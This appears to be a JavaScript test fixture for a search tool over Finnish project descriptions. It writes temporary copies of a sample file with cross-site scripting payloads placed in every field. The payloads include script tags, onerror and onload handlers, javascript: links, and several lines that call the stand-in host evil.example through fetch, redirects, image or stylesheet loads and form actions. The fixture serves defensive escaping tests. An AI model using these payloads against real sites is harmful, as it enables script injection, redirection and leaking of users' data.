// Descriptions that hold in every field what would do harm if it were taken
// for anything but text.
import { mkdtempSync, readFileSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const ACTS = ['alert(1)', 'fetch("//evil.example")', 'location="//evil.example"', 'document.title=1'];

const SHAPES = [
  (act) => `<script>${act}</script>`,
  (act) => `"><script>${act}</script>`,
  (act) => `'><img src=x onerror='${act}'>`,
  (act) => `<svg onload=${act}>`,
  (act) => `</title></textarea></style><script>${act}</script>`,
  (act) => `<a href="javascript:${act}">hanke</a>`,
  (act) => `" autofocus onfocus="${act}" x="`,
  () => `<img src=//evil.example/x.png>`,
  () => `<link rel=stylesheet href=//evil.example/x.css>`,
  () => `<style>@import "//evil.example/x.css";</style>`,
  () => `<meta http-equiv=refresh content="0;url=//evil.example">`,
  () => `<base href="//evil.example/"><form action="//evil.example">`,
  (act) => `]]><script>${act}</script><!--`,
  () => `&lt;script&gt;&#60;script&#62;{{7*7}}{% include "x" %}`,
  (act) => `\u2028</script><script>${act}</script>\u202e`,
];

/** The sample's description with a text in each of its values and paragraphs. */
function description(sample, code, text) {
  return sample.split('\n').map((line) => {
    if (line.startsWith('Hankekoodi:')) return `Hankekoodi: ${code}`;
    const [label, value] = line.split(': ');
    if (value && label.length < 60 && !/tila|Y-tunnus|toteutusaika|rahoitus/.test(label)) {
      return `${label}: ${text} ${value}`;
    }
    return line.length > 60 ? `${line} ${text} hanke` : line;
  }).join('\n');
}

/** A folder of them, their codes, the texts, and how to take it away. */
export function hostile() {
  const folder = mkdtempSync(join(tmpdir(), 'esr-search-hostile-'));
  const sample = readFileSync(new URL('../corpus/S26011.txt', import.meta.url), 'utf8');
  const texts = SHAPES.flatMap((shape) => ACTS.map(shape));
  const codes = texts.map((text, number) => {
    const code = `S${29000 + number}`;
    const path = join(folder, code + '.txt');
    writeFileSync(path, description(sample, code, text));
    const hourAgo = Date.now() / 1000 - 3600;
    utimesSync(path, hourAgo, hourAgo);
    return code;
  });
  const end = () => rmSync(folder, { recursive: true, force: true });
  return { folder, codes, texts: [...new Set(texts)], end };
}
